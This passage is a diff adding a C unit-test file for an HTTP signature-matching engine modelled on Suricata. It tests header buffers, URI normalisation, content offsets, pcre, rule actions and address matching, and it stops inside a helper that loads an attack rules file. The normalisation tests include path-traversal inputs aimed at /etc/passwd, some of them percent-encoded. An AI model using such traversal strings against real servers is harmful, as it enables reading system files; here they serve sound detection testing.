@@ -1,0 +1,883 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * test_match: the signature engine's matching, with transactions built by
+ * hand. Runs without EAL or hugepages, and under ASan/UBSan.
+ */
+#include "tu_eal.h"
+#include "mt_engine_int.h"
+
+#include <dirent.h>
+#include <errno.h>
+#include <unistd.h>
+
+#include <arpa/inet.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <strings.h>
+
+#include <CUnit/Basic.h>
+
+#include "mt_engine.h"
+
+struct tx {
+	struct mt_txn t;
+	struct mt_flow_tuple tup;
+};
+
+static const struct {
+	const char *name;
+	enum mt_known_hdr slot;
+} tx_known[] = {
+	{"Host", MT_HDR_HOST}, {"User-Agent", MT_HDR_USER_AGENT},
+	{"Content-Type", MT_HDR_CONTENT_TYPE}, {"Content-Length", MT_HDR_CONTENT_LENGTH},
+	{"Cookie", MT_HDR_COOKIE}, {"Authorization", MT_HDR_AUTHORIZATION},
+	{"Transfer-Encoding", MT_HDR_TRANSFER_ENCODING},
+	{"Content-Encoding", MT_HDR_CONTENT_ENCODING}, {"Server", MT_HDR_SERVER},
+	{"Location", MT_HDR_LOCATION}, {"Set-Cookie", MT_HDR_SET_COOKIE},
+	{"X-Forwarded-For", MT_HDR_X_FORWARDED_FOR},
+};
+
+static inline struct mt_slice
+tx_sl(const char *s)
+{
+	struct mt_slice x = {(const uint8_t *)s, (uint32_t)strlen(s)};
+	return x;
+}
+
+/* headers: NULL-terminated "Name: value" strings (must outlive the tx) */
+static inline void
+tx_headers(struct mt_http_msg *m, const char *const *hdrs)
+{
+	for (int k = 0; k < MT_HDR__COUNT; k++)
+		m->known[k] = -1;
+	m->n_headers = 0;
+	for (int i = 0; hdrs != NULL && hdrs[i] != NULL; i++) {
+		const char *colon = strchr(hdrs[i], ':');
+		struct mt_header *h = &m->headers[m->n_headers];
+		const char *v = colon + 1;
+
+		while (*v == ' ')
+			v++;
+		h->name.p = (const uint8_t *)hdrs[i];
+		h->name.len = (uint32_t)(colon - hdrs[i]);
+		h->value = tx_sl(v);
+		for (size_t k = 0; k < sizeof(tx_known) / sizeof(tx_known[0]); k++)
+			if (strlen(tx_known[k].name) == h->name.len &&
+			    strncasecmp(tx_known[k].name, hdrs[i], h->name.len) == 0 &&
+			    m->known[tx_known[k].slot] < 0)
+				m->known[tx_known[k].slot] = (int16_t)m->n_headers;
+		m->n_headers++;
+	}
+}
+
+/* client 192.0.2.10:40000 -> server 10.0.0.5:8080 */
+static inline void
+tx_req(struct tx *x, const char *method, const char *uri, const char *const *hdrs)
+{
+	memset(x, 0, sizeof(*x));
+	x->tup.family = 4;
+	x->tup.proto = 6;
+	x->tup.client_port = 40000;
+	x->tup.server_port = 8080;
+	inet_pton(AF_INET, "192.0.2.10", x->tup.client_ip);
+	inet_pton(AF_INET, "10.0.0.5", x->tup.server_ip);
+	x->t.tuple = &x->tup;
+	x->t.req.method = tx_sl(method);
+	x->t.req.uri = tx_sl(uri);
+	x->t.req.http_major = 1;
+	x->t.req.http_minor = 1;
+	tx_headers(&x->t.req, hdrs);
+	tx_headers(&x->t.resp, NULL);
+}
+
+static inline void
+tx_resp(struct tx *x, uint16_t code, const char *reason, const char *const *hdrs)
+{
+	x->t.resp.status_code = code;
+	x->t.resp.reason = tx_sl(reason);
+	x->t.resp.http_major = 1;
+	x->t.resp.http_minor = 1;
+	tx_headers(&x->t.resp, hdrs);
+}
+
+static inline void
+tx_print_errors(const struct mt_errors *er)
+{
+	for (size_t i = 0; i < er->n; i++)
+		fprintf(stderr, "  %s:%u [%s] %s\n", er->v[i].file, er->v[i].line,
+			er->v[i].keyword, er->v[i].reason);
+}
+
+static inline struct mt_engine *
+tx_engine(const struct mt_engine_params *p, const char *rules)
+{
+	struct mt_errors er = {0};
+	struct mt_engine *e = mt_engine_build_text(p, rules, "<test>", &er);
+
+	if (e == NULL) {
+		fprintf(stderr, "engine build failed for:\n%s\n", rules);
+		tx_print_errors(&er);
+	}
+	mt_errors_clear(&er);
+	return e;
+}
+
+/* Run both sides; return the hits of the side with a verdict, -1 on error. */
+static inline int
+tx_run(const struct mt_engine *e, const struct tx *x, struct mt_result *res)
+{
+	struct mt_scratch *s = mt_scratch_create(e);
+	int n;
+
+	if (s == NULL)
+		return -1;
+	n = mt_match_request(e, s, &x->t, res);
+	if (n == 0 && x->t.resp.status_code != 0)
+		n = mt_match_response(e, s, &x->t, res);
+	mt_scratch_destroy(s);
+	return n;
+}
+
+/* Does the single rule @p rule fire on @p x? -1 if the rule did not load. */
+static inline int
+tx_fires(const char *rule, const struct tx *x)
+{
+	struct mt_engine *e = tx_engine(NULL, rule);
+	struct mt_result res;
+	int n;
+
+	if (e == NULL)
+		return -1;
+	n = tx_run(e, x, &res);
+	mt_engine_destroy(e);
+	return n;
+}
+
+static inline bool
+tx_has_sid(const struct mt_result *r, uint32_t sid)
+{
+	for (uint32_t i = 0; i < r->n_hits; i++)
+		if (r->hits[i].rule->sid == sid)
+			return true;
+	return false;
+}
+
+
+#define RULE(opts) "alert http any any -> any any (" opts " sid:1;)"
+
+static const char *const H_BASIC[] = {
+	"Host: API.Example.com:8080", "User-Agent: curl/8.1", "Accept: */*",
+	"Cookie: session=abc123", "Content-Type: application/json", "Content-Length: 42",
+	"X-Dup: one", "X-Dup: two", NULL,
+};
+
+/* ---------- buffers ---------- */
+
+static void
+test_buffers_request(void)
+{
+	struct tx x;
+
+	tx_req(&x, "GET", "/api/v1/items?id=7", H_BASIC);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.method; content:\"GET\"; bsize:3;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.method; content:\"POST\";"), &x), 0);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.uri; content:\"/api/v1/items?id=7\"; bsize:18;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.uri.raw; content:\"id=7\"; endswith;"), &x), 1);
+	/* host: lower case, no port; raw keeps both */
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.host; content:\"api.example.com\"; bsize:15;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.host.raw; content:\"API.Example.com:8080\";"), &x), 1);
+	/* http.header excludes Cookie and joins repeated headers */
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"X-Dup: one, two|0d 0a|\";"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"session=abc123\";"), &x), 0);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"Host: API.Example.com:8080|0d 0a|\"; startswith;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.header.raw; content:\"Cookie: session=abc123|0d 0a|\"; "
+				      "content:\"X-Dup: two|0d 0a 0d 0a|\"; endswith;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.header_names; content:\"|0d 0a|Host|0d 0a|User-Agent|0d 0a|\"; startswith; "
+				      "content:\"|0d 0a|X-Dup|0d 0a|X-Dup|0d 0a 0d 0a|\"; endswith;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.user_agent; content:\"curl/\"; startswith;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.cookie; content:\"session=abc123\"; bsize:14;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.content_type; content:\"application/json\"; bsize:16;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.content_len; content:\"42\"; bsize:2;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.request_line; content:\"GET /api/v1/items?id=7 HTTP/1.1\"; bsize:31;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.protocol; content:\"HTTP/1.1\"; bsize:8;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.start; content:\"GET /api/v1/items?id=7 HTTP/1.1|0d 0a|Host: \"; startswith; "
+				      "content:\"X-Dup: two|0d 0a 0d 0a|\"; endswith;"), &x), 1);
+	/* old-style modifiers select the same buffers */
+	CU_ASSERT_EQUAL(tx_fires(RULE("content:\"GET\"; http_method; content:\"items\"; http_uri; "
+				      "content:\"curl\"; http_user_agent; content:\"session\"; http_cookie; "
+				      "content:\"api.example\"; http_host; content:\"Accept\"; http_header; "
+				      "content:\"Cookie: \"; http_raw_header; content:\"id=7\"; http_raw_uri;"), &x), 1);
+}
+
+static void
+test_buffers_absent(void)
+{
+	struct tx x;
+	static const char *const h[] = {"Host: a", NULL};
+
+	tx_req(&x, "GET", "/", h);
+	/* an absent buffer fails even a negated content (as in Suricata) */
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.user_agent; content:!\"curl\";"), &x), 0);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.cookie; bsize:0;"), &x), 0);
+	/* response buffers do not exist before the response */
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.stat_code; content:\"200\";"), &x), 0);
+}
+
+static void
+test_buffers_response(void)
+{
+	struct tx x;
+	static const char *const rh[] = {
+		"Server: nginx/1.25", "Location: https://example.com/login",
+		"Set-Cookie: id=1; HttpOnly", "Content-Type: text/html", "X-Powered-By: PHP/8.1", NULL,
+	};
+
+	tx_req(&x, "GET", "/login", H_BASIC);
+	tx_resp(&x, 302, "Found", rh);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.stat_code; content:\"302\"; bsize:3;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.stat_msg; content:\"Found\"; bsize:5;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.response_line; content:\"HTTP/1.1 302 Found\"; bsize:18;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.server; content:\"nginx\"; startswith;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.location; content:\"/login\"; endswith;"), &x), 1);
+	/* with flow:to_client the shared buffers are the response's */
+	CU_ASSERT_EQUAL(tx_fires(RULE("flow:to_client; http.cookie; content:\"HttpOnly\";"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("flow:to_client; http.header; content:\"X-Powered-By\";"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("flow:to_client; http.header; content:\"Set-Cookie\";"), &x), 0);
+	CU_ASSERT_EQUAL(tx_fires(RULE("flow:to_client; http.content_type; content:\"text/html\";"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("flow:to_client; http.start; content:\"HTTP/1.1 302 Found|0d 0a|Server\"; startswith;"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"X-Powered-By\";"), &x), 0);
+	/* mixing request and response buffers: evaluated with both heads */
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.uri; content:\"/login\"; http.stat_code; content:\"302\";"), &x), 1);
+	CU_ASSERT_EQUAL(tx_fires(RULE("http.uri; content:\"/logout\"; http.stat_code; content:\"302\";"), &x), 0);
+}
+
+/* ---------- normalisation ---------- */
+
+static void
+norm_is(const char *in, const char *want, bool want_dbl)
+{
+	uint8_t out[512];
+	bool dbl = false;
+	uint32_t n = mt_uri_normalize((const uint8_t *)in, (uint32_t)strlen(in), out, sizeof(out), &dbl);
+
+	if (n != strlen(want) || memcmp(out, want, n) != 0 || dbl != want_dbl)
+		fprintf(stderr, "normalise '%s' -> '%.*s' (dbl %d), want '%s'\n", in, (int)n, out,
+			dbl, want);
+	CU_ASSERT_EQUAL(n, strlen(want));
+	CU_ASSERT(memcmp(out, want, n) == 0);
+	CU_ASSERT_EQUAL(dbl, want_dbl);
+}
+
+static void
+test_uri_normalize(void)
+{
+	norm_is("/a/b", "/a/b", false);
+	norm_is("/a/./b", "/a/b", false);
+	norm_is("/a/../b", "/b", false);
+	norm_is("//a///b/", "/a/b/", false);
+	norm_is("/a\\b\\..\\c", "/a/c", false);
+	norm_is("/../../etc/passwd", "/etc/passwd", false);
+	norm_is("/a/b/../../../c", "/c", false);
+	norm_is("/%2e%2e/%2E%2E/etc/passwd", "/etc/passwd", false);
+	norm_is("/a/..", "/", false);
+	norm_is("/a/.", "/a/", false);
+	norm_is("/", "/", false);
+	norm_is("/x?q=%27a%20b", "/x?q='a b", false);
+	norm_is("/x?path=..%2F..%2Fetc", "/x?path=../../etc", false);
+	norm_is("/x?a=%zz%4", "/x?a=%zz%4", false);
+	norm_is("/x%252e%252e/", "/x%2e%2e/", true);
+	norm_is("http://host:80/a/../b?c=%41", "/b?c=A", false);
+	norm_is("/a/b?x=/../", "/a/b?x=/../", false);
+}
+
+/* ---------- positional semantics ---------- */
+
+static int
+on(const char *opts, const char *uri)
+{
+	char rule[1024];
+	struct tx x;
+	static const char *const h[] = {"Host: t", NULL};
+
+	snprintf(rule, sizeof(rule), "alert http any any -> any any (http.uri.raw; %s sid:1;)", opts);
+	tx_req(&x, "GET", uri, h);
+	return tx_fires(rule, &x);
+}
+
+static void
+test_offset_depth(void)
+{
+	CU_ASSERT_EQUAL(on("content:\"abc\"; offset:2;", "xxabc"), 1);
+	CU_ASSERT_EQUAL(on("content:\"abc\"; offset:3;", "xxabc"), 0);
+	CU_ASSERT_EQUAL(on("content:\"abc\"; depth:5;", "xxabc"), 1);
+	CU_ASSERT_EQUAL(on("content:\"abc\"; depth:4;", "xxabc"), 0);
+	/* depth counts from offset */
+	CU_ASSERT_EQUAL(on("content:\"abc\"; offset:1; depth:4;", "xxabc"), 1);
+	CU_ASSERT_EQUAL(on("content:\"abc\"; offset:1; depth:3;", "xxabc"), 0);
+	CU_ASSERT_EQUAL(on("content:\"ABC\"; nocase; offset:2; depth:3;", "xxabc"), 1);
+	CU_ASSERT_EQUAL(on("content:\"ABC\"; offset:2;", "xxabc"), 0);
+	CU_ASSERT_EQUAL(on("content:\"abc\"; startswith;", "abcx"), 1);
+	CU_ASSERT_EQUAL(on("content:\"abc\"; startswith;", "xabc"), 0);
+	CU_ASSERT_EQUAL(on("content:\"abc\"; endswith;", "abcxabc"), 1);
+	CU_ASSERT_EQUAL(on("content:\"abc\"; endswith;", "abcx"), 0);
+	CU_ASSERT_EQUAL(on("content:\"abc\"; startswith; endswith;", "abc"), 1);
+	CU_ASSERT_EQUAL(on("content:\"abc\"; startswith; endswith;", "abcabc"), 0);
+	/* a long pattern beyond the window: never read past the buffer */
+	CU_ASSERT_EQUAL(on("content:\"abcdef\"; offset:3;", "xxabc"), 0);
+}
+
+static void
+test_relative(void)
+{
+	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:0;", "ab"), 1);
+	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:1;", "ab"), 0);
+	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:1;", "axb"), 1);
+	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; within:1;", "ab"), 1);
+	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; within:1;", "axb"), 0);
+	/* within counts from the distance point (Suricata) */
+	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:2; within:1;", "axxb"), 1);
+	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:2; within:1;", "axxxb"), 0);
+	/* negative distance looks back */
+	CU_ASSERT_EQUAL(on("content:\"bc\"; content:\"ab\"; distance:-3; within:2;", "abc"), 1);
+	/* order matters for relative, not for absolute */
+	CU_ASSERT_EQUAL(on("content:\"b\"; content:\"a\"; distance:0;", "ab"), 0);
+	CU_ASSERT_EQUAL(on("content:\"b\"; content:\"a\";", "ab"), 1);
+	/* backtracking: the first "abc" is followed by '-x', the second by '-y' */
+	CU_ASSERT_EQUAL(on("content:\"abc\"; content:\"y\"; distance:1; within:1;", "abc-x-abc-y"), 1);
+	CU_ASSERT_EQUAL(on("content:\"abc\"; content:\"z\"; distance:1; within:1;", "abc-x-abc-y"), 0);
+	/* three levels of backtracking */
+	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:0; within:1; "
+			   "content:\"c\"; distance:0; within:1;", "abxabyabc"), 1);
+	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:0; within:1; "
+			   "content:\"c\"; distance:0; within:1;", "abxabyab"), 0);
+	/* a relative content in the old style: same buffer only */
+	CU_ASSERT_EQUAL(on("content:\"k=\"; content:\"v\"; distance:0; within:1;", "/?k=v"), 1);
+}
+
+static void
+test_negation(void)
+{
+	CU_ASSERT_EQUAL(on("content:!\"evil\";", "/good"), 1);
+	CU_ASSERT_EQUAL(on("content:!\"evil\";", "/evil"), 0);
+	CU_ASSERT_EQUAL(on("content:\"/a\"; content:!\"b\"; distance:0; within:2;", "/axxb"), 1);
+	CU_ASSERT_EQUAL(on("content:\"/a\"; content:!\"b\"; distance:0; within:2;", "/axb"), 0);
+	/* negated relative + backtracking: second "/a" is not followed by b */
+	CU_ASSERT_EQUAL(on("content:\"/a\"; content:!\"b\"; distance:0; within:1; "
+			   "content:\"z\"; distance:0;", "/ab/acz"), 1);
+	CU_ASSERT_EQUAL(on("content:!\"x\"; depth:2;", "axx"), 0);
+	CU_ASSERT_EQUAL(on("content:!\"x\"; offset:3;", "axx"), 1);
+	CU_ASSERT_EQUAL(on("content:!\"ab\"; endswith;", "abc"), 1);
+	CU_ASSERT_EQUAL(on("content:!\"bc\"; endswith;", "abc"), 0);
+}
+
+static void
+test_bsize_isdataat(void)
+{
+	CU_ASSERT_EQUAL(on("bsize:5;", "abcde"), 1);
+	CU_ASSERT_EQUAL(on("bsize:4;", "abcde"), 0);
+	CU_ASSERT_EQUAL(on("bsize:<6;", "abcde"), 1);
+	CU_ASSERT_EQUAL(on("bsize:<5;", "abcde"), 0);
+	CU_ASSERT_EQUAL(on("bsize:>4;", "abcde"), 1);
+	CU_ASSERT_EQUAL(on("bsize:>5;", "abcde"), 0);
+	CU_ASSERT_EQUAL(on("bsize:4<>6;", "abcde"), 1);
+	CU_ASSERT_EQUAL(on("bsize:5<>9;", "abcde"), 0);
+	CU_ASSERT_EQUAL(on("content:\"b\"; bsize:5;", "abcde"), 1);
+	CU_ASSERT_EQUAL(on("isdataat:4;", "abcde"), 1);
+	CU_ASSERT_EQUAL(on("isdataat:5;", "abcde"), 0);
+	CU_ASSERT_EQUAL(on("isdataat:!5;", "abcde"), 1);
+	CU_ASSERT_EQUAL(on("content:\"c\"; isdataat:1,relative;", "abcde"), 1);
+	CU_ASSERT_EQUAL(on("content:\"c\"; isdataat:2,relative;", "abcde"), 0);
+	CU_ASSERT_EQUAL(on("content:\"e\"; isdataat:!1,relative;", "abcde"), 1);
+	/* isdataat relative backtracks over content occurrences */
+	CU_ASSERT_EQUAL(on("content:\"a\"; isdataat:!1,relative;", "abca"), 1);
+}
+
+static void
+test_pcre(void)
+{
+	CU_ASSERT_EQUAL(on("pcre:\"/id=\\d+$/\";", "/x?id=42"), 1);
+	CU_ASSERT_EQUAL(on("pcre:\"/id=\\d+$/\";", "/x?id=42a"), 0);
+	CU_ASSERT_EQUAL(on("pcre:\"/SELECT/i\";", "/select"), 1);
+	CU_ASSERT_EQUAL(on("pcre:\"/SELECT/\";", "/select"), 0);
+	CU_ASSERT_EQUAL(on("pcre:!\"/admin/\";", "/user"), 1);
+	CU_ASSERT_EQUAL(on("pcre:!\"/admin/\";", "/admin"), 0);
+	CU_ASSERT_EQUAL(on("pcre:\"/^\\/x/\";", "/x/y"), 1);
+	CU_ASSERT_EQUAL(on("pcre:\"/^y/m\";", "/x\ny"), 1);
+	CU_ASSERT_EQUAL(on("pcre:\"/^y/\";", "/x\ny"), 0);
+	CU_ASSERT_EQUAL(on("pcre:\"/x.y/s\";", "x\ny"), 1);
+	CU_ASSERT_EQUAL(on("pcre:\"/x.y/\";", "x\ny"), 0);
+	CU_ASSERT_EQUAL(on("pcre:\"/a b c/x\";", "abc"), 1);
+	CU_ASSERT_EQUAL(on("pcre:\"/bc/A\";", "abc"), 0);
+	CU_ASSERT_EQUAL(on("pcre:\"/ab/A\";", "abc"), 1);
+	/* relative pcre: anchored at the end of the previous content (with backtracking) */
+	CU_ASSERT_EQUAL(on("content:\"k=\"; pcre:\"/^\\d{3}/R\";", "/?k=x&k=123"), 1);
+	CU_ASSERT_EQUAL(on("content:\"k=\"; pcre:\"/^\\d{3}/R\";", "/?k=x&k=12"), 0);
+	CU_ASSERT_EQUAL(on("content:\"k=\"; pcre:\"/^\\d{3}/\";", "/?k=123"), 0);
+	{
+		struct tx x;
+		static const char *const h[] = {"Host: t", "X-A: hello", NULL};
+
+		tx_req(&x, "PUT", "/a%20b", h);
+		/* buffer flags */
+		CU_ASSERT_EQUAL(tx_fires(RULE("pcre:\"/a b/U\";"), &x), 1);
+		CU_ASSERT_EQUAL(tx_fires(RULE("pcre:\"/a%20b/I\";"), &x), 1);
+		CU_ASSERT_EQUAL(tx_fires(RULE("pcre:\"/^PUT$/M\";"), &x), 1);
+		CU_ASSERT_EQUAL(tx_fires(RULE("pcre:\"/X-A: hel+o/H\";"), &x), 1);
+		CU_ASSERT_EQUAL(tx_fires(RULE("pcre:\"/X-A: hel+o\\r\\n\\r\\n/D\";"), &x), 1);
+	}
+}
+
+/* ---------- actions, addresses ---------- */
+
+static void
+test_actions(void)
+{
+	struct tx x;
+	struct mt_result r;
+	struct mt_engine *e;
+	static const char *const h[] = {"Host: t", NULL};
+
+	tx_req(&x, "GET", "/evil", h);
+	e = tx_engine(NULL, "alert http any any -> any any (http.uri; content:\"evil\"; sid:1;)\n"
+			    "drop http any any -> any any (http.uri; content:\"/e\"; sid:2;)\n");
+	CU_ASSERT_FATAL(e != NULL);
+	CU_ASSERT_EQUAL(tx_run(e, &x, &r), 2);
+	CU_ASSERT_EQUAL(r.verdict, MT_ACT_DROP);
+	mt_engine_destroy(e);
+
+	e = tx_engine(NULL, "reject http any any -> any any (http.uri; content:\"evil\"; sid:1;)\n"
+			    "drop http any any -> any any (http.uri; content:\"/e\"; sid:2;)\n");
+	CU_ASSERT_FATAL(e != NULL);
+	CU_ASSERT_EQUAL(tx_run(e, &x, &r), 2);
+	CU_ASSERT_EQUAL(r.verdict, MT_ACT_REJECT);
+	mt_engine_destroy(e);
+
+	/* pass wins and suppresses the other hits */
+	e = tx_engine(NULL, "drop http any any -> any any (http.uri; content:\"evil\"; sid:1;)\n"
+			    "pass http any any -> any any (http.uri; content:\"/e\"; sid:2;)\n"
+			    "alert http any any -> any any (http.uri; content:\"vil\"; sid:3;)\n");
+	CU_ASSERT_FATAL(e != NULL);
+	CU_ASSERT_EQUAL(tx_run(e, &x, &r), 1);
+	CU_ASSERT_EQUAL(r.verdict, MT_ACT_PASS);
+	CU_ASSERT_EQUAL(r.hits[0].rule->sid, 2);
+	mt_engine_destroy(e);
+
+	CU_ASSERT_STRING_EQUAL(mt_action_name(MT_ACT_ALERT), "alert");
+	CU_ASSERT_STRING_EQUAL(mt_action_name(MT_ACT_DROP), "drop");
+	CU_ASSERT_STRING_EQUAL(mt_action_name(MT_ACT_REJECT), "reject");
+	CU_ASSERT_STRING_EQUAL(mt_action_name(MT_ACT_PASS), "pass");
+	CU_ASSERT_STRING_EQUAL(mt_action_name(MT_ACT_NONE), "none");
+}
+
+static void
+test_many_hits(void)
+{
+	char rules[8192];
+	size_t o = 0;
+	struct tx x;
+	struct mt_result r;
+	struct mt_engine *e;
+	static const char *const h[] = {"Host: t", NULL};
+
+	for (int i = 1; i <= 20; i++)
+		o += (size_t)snprintf(rules + o, sizeof(rules) - o,
+				      "%s http any any -> any any (http.uri; content:\"/x\"; sid:%d;)\n",
+				      i == 20 ? "drop" : "alert", i);
+	e = tx_engine(NULL, rules);
+	CU_ASSERT_FATAL(e != NULL);
+	tx_req(&x, "GET", "/x", h);
+	CU_ASSERT_EQUAL(tx_run(e, &x, &r), MT_MAX_HITS);
+	CU_ASSERT_EQUAL(r.hits_dropped, 20 - MT_MAX_HITS);
+	CU_ASSERT_EQUAL(r.verdict, MT_ACT_DROP); /* the dropped hit still counts */
+	CU_ASSERT_EQUAL(r.hits[0].rule->sid, 1);
+	mt_engine_destroy(e);
+}
+
+static int
+fires_vars(const char *hdr, const struct tx *x)
+{
+	static const struct mt_var vars[] = {
+		{"HOME_NET", "[10.0.0.0/8,192.168.0.0/16]"},
+		{"EXTERNAL_NET", "!$HOME_NET"},
+		{"HTTP_PORTS", "[80,8000:8099]"},
+	};
+	struct mt_engine_params p = {.vars = vars, .n_vars = 3};
+	char rule[512];
+	struct mt_engine *e;
+	struct mt_result r;
+	int n;
+
+	snprintf(rule, sizeof(rule), "alert http %s (http.uri; content:\"/\"; sid:1;)", hdr);
+	e = tx_engine(&p, rule);
+	if (e == NULL)
+		return -1;
+	n = tx_run(e, x, &r);
+	mt_engine_destroy(e);
+	return n;
+}
+
+static void
+test_addresses(void)
+{
+	struct tx x;
+	static const char *const h[] = {"Host: t", NULL};
+
+	tx_req(&x, "GET", "/", h); /* 192.0.2.10:40000 -> 10.0.0.5:8080 */
+	CU_ASSERT_EQUAL(fires_vars("$EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS", &x), 1);
+	CU_ASSERT_EQUAL(fires_vars("$HOME_NET any -> $EXTERNAL_NET any", &x), 0);
+	CU_ASSERT_EQUAL(fires_vars("$HOME_NET any <> $EXTERNAL_NET any", &x), 1);
+	CU_ASSERT_EQUAL(fires_vars("any any -> 10.0.0.5 8080", &x), 1);
+	CU_ASSERT_EQUAL(fires_vars("any any -> 10.0.0.6 any", &x), 0);
+	CU_ASSERT_EQUAL(fires_vars("192.0.2.0/24 any -> any any", &x), 1);
+	CU_ASSERT_EQUAL(fires_vars("192.0.3.0/24 any -> any any", &x), 0);
+	CU_ASSERT_EQUAL(fires_vars("[192.0.2.0/24,!192.0.2.10] any -> any any", &x), 0);
+	CU_ASSERT_EQUAL(fires_vars("![192.0.3.0/24,198.51.100.1] any -> any any", &x), 1);
+	CU_ASSERT_EQUAL(fires_vars("any 40000 -> any any", &x), 1);
+	CU_ASSERT_EQUAL(fires_vars("any !40000 -> any any", &x), 0);
+	CU_ASSERT_EQUAL(fires_vars("any 1024: -> any :8080", &x), 1);
+	CU_ASSERT_EQUAL(fires_vars("any any -> any :8079", &x), 0);
+	CU_ASSERT_EQUAL(fires_vars("any any -> any [80,443]", &x), 0);
+	CU_ASSERT_EQUAL(fires_vars("any any -> any [80,8080]", &x), 1);
+	CU_ASSERT_EQUAL(fires_vars("any any -> ::/0 any", &x), 0);
+	/* IPv6 */
+	x.tup.family = 6;
+	inet_pton(AF_INET6, "2001:db8::1", x.tup.client_ip);
+	inet_pton(AF_INET6, "2001:db8:1::5", x.tup.server_ip);
+	CU_ASSERT_EQUAL(fires_vars("2001:db8::/64 any -> 2001:db8:1::/48 any", &x), 1);
+	CU_ASSERT_EQUAL(fires_vars("2001:db8:1::/48 any -> any any", &x), 0);
+	CU_ASSERT_EQUAL(fires_vars("$HOME_NET any -> any any", &x), 0);
+}
+
+static void
+test_to_client_addresses(void)
+{
+	struct tx x;
+	static const char *const h[] = {"Host: t", NULL};
+	static const char *const rh[] = {"Server: x", NULL};
+
+	tx_req(&x, "GET", "/", h);
+	tx_resp(&x, 200, "OK", rh);
+	/* a to_client rule's source is the server */
+	CU_ASSERT_EQUAL(tx_fires("alert http 10.0.0.5 8080 -> 192.0.2.10 any (flow:to_client; "
+				 "http.stat_code; content:\"200\"; sid:1;)", &x), 1);
+	CU_ASSERT_EQUAL(tx_fires("alert http 192.0.2.10 any -> 10.0.0.5 any (flow:to_client; "
+				 "http.stat_code; content:\"200\"; sid:1;)", &x), 0);
+}
+
+/* ---------- engine structure ---------- */
+
+static void
+test_fast_pattern_grouping(void)
+{
+	struct mt_engine *e = tx_engine(NULL,
+		"alert http any any -> any any (http.uri; content:\"ab\"; content:\"longest\"; sid:1;)\n"
+		"alert http any any -> any any (http.uri; content:\"abcdefgh\"; content:\"xy\"; fast_pattern; sid:2;)\n"
+		"alert http any any -> any any (http.uri; pcre:\"/a+b/\"; sid:3;)\n"
+		"alert http any any -> any any (http.uri; content:!\"zz\"; sid:4;)\n"
+		"alert http any any -> any any (http.user_agent; content:\"ua\"; sid:5;)\n"
+		"alert http any any -> any any (flow:to_client; http.header; content:\"hh\"; sid:6;)\n");
+	const struct mt_rule *r;
+	size_t uri_pats = 0;
+
+	CU_ASSERT_FATAL(e != NULL);
+	r = e->rules[0];
+	CU_ASSERT_EQUAL(r->groups[r->fp_group].items[r->fp_item].len, 7);
+	r = e->rules[1];
+	CU_ASSERT_EQUAL(r->groups[r->fp_group].items[r->fp_item].len, 2);
+	CU_ASSERT_EQUAL(e->rules[2]->fp_group, -1);
+	/* the negated-only rule is evaluated every time, at the request side */
+	CU_ASSERT_EQUAL(e->n_always[0], 1);
+	CU_ASSERT_EQUAL(e->always[0][0], 3);
+	CU_ASSERT_EQUAL(e->n_always[1], 0);
+	CU_ASSERT_EQUAL(e->rules[5]->eval_side, 1);
+	for (size_t i = 0; i < e->n_mpm; i++)
+		if (e->mpm[i].side == 0 && e->mpm[i].buf == MT_BUFID(MT_B_URI, 0))
+			uri_pats = e->mpm[i].n;
+	/* rules 1-3 share one uri database (the pcre as a prefilter) */
+	CU_ASSERT_EQUAL(uri_pats, 3);
+	CU_ASSERT_EQUAL(e->n_mpm, 3);
+	mt_engine_destroy(e);
+}
+
+/* ---------- starter rules ---------- */
+
+static struct mt_engine *
+starter(const struct mt_engine_params *p)
+{
+	const char *f = TEST_SRCDIR "/configs/rules/api-attacks.rules";
+	struct mt_errors er = {0};
+	struct mt_engine *e = mt_engine_build_files(p, &f, 1, &er);
+
+	tx_print_errors(&er);
+	mt_errors_clear(&er);
